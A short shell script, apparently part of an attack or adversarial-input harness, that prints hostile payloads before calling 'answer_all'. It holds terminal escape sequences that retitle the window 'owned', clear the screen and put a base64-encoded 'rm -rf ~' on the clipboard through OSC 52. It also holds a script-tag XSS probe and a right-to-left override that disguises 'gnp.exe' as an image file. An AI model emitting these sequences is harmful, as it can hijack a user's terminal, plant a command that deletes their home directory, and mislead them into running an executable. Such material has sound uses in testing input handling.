. /attack/answers.sh
printf '\033]0;owned\007\033[2J\033[31m\033]52;c;cm0gLXJmIH4=\007\n'
printf '<script>alert(1)</script>\r\n\342\200\256gnp.exe\n'
answer_all
